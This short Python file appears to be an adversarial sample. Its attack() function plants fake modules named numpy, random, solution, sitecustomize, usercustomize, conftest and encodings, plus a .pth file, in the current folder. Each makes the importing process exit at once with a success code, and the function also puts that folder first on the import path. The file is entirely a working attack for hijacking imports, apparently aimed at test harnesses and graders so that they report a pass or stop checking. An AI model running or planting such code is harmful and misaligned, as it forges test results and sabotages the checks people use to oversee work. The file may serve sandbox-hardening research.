"""Write modules with the names of others into its folder, for whoever imports from there next."""

import sys


def attack() -> None:
    for name in ("numpy", "msgspec", "random", "solution", "sitecustomize", "usercustomize", "conftest", "encodings"):
        with open(f"{name}.py", "w") as file:
            file.write("import os; os._exit(0)")
    with open("shadow.pth", "w") as file:
        file.write("import os; os._exit(0)")
    sys.path.insert(0, "")
    sys.modules.pop("random", None)
